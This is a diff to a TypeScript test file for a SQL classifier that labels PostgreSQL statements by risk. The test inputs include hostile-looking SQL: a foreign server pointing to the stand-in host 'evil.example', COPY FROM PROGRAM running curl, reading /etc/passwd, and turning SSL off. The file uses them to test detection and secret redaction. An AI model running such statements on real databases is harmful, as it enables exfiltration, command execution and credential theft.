@@ -1,6 +1,7 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { loadModule } from 'libpg-query';
 import { classifySql, type ClassifyOptions } from '../../src/activity/classify.js';
+import { redactSecrets } from '../../src/redact.js';
 
 const options: ClassifyOptions = { views: new Set(['public.v_orders', 'v_customers']), viewWrites: false, allowedLanguages: ['sql', 'plpgsql'], sensitiveTables: ['customers', 'billing.*'] };
 const one = (sql: string, o: ClassifyOptions = options) => {
@@ -38,6 +39,8 @@ describe('classification with PostgreSQL’s grammar', () => {
     ["ALTER SYSTEM SET ssl = off", 'privileged-operation', 'ALTER SYSTEM', ['ssl']],
     ['SET SESSION AUTHORIZATION admin', 'privileged-operation', 'SET SESSION AUTHORIZATION', ['admin']],
     ['CREATE EXTENSION dblink', 'privileged-operation', 'CREATE EXTENSION', ['dblink']],
+    ["CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example', dbname 'x')", 'data-exfiltration', 'CREATE FOREIGN SERVER', ['evil']],
+    ["CREATE USER MAPPING FOR mallory SERVER evil OPTIONS (user 'm', password 's3cret')", 'privileged-operation', 'CREATE USER MAPPING', ['evil']],
     ['SELECT pg_terminate_backend(4242)', 'privileged-operation', 'SELECT', ['pg_terminate_backend']],
     ["COPY t FROM PROGRAM 'curl http://x'", 'privileged-operation', 'COPY FROM', ['t']],
     ["CREATE USER eve PASSWORD 'x'", 'user-created', 'CREATE USER', ['eve']],
@@ -142,6 +145,13 @@ describe('classification with PostgreSQL’s grammar', () => {
     const [both] = classifySql("SELECT *, pg_read_file('/etc/passwd') FROM orders", large);
     expect(both!.useCase).toBe('data-exfiltration');
     expect(both!.wholeLargeTable).toBeUndefined();
+  });
+
+  it("says where a foreign server points, and never shows a user mapping's password", () => {
+    expect(one("CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example', dbname 'x')").notes).toEqual(['foreign server evil (postgres_fdw) to host evil.example']);
+    const mapping = classifySql("CREATE USER MAPPING FOR mallory SERVER evil OPTIONS (user 'm', password 's3cret')", options)[0]!;
+    expect(mapping.notes).toEqual(['user mapping for mallory on server evil: stored credentials']);
+    expect(redactSecrets(mapping.statement)).not.toContain('s3cret');
   });
 
   it('treats UPDATE through a view as view-delete only when configured', () => {
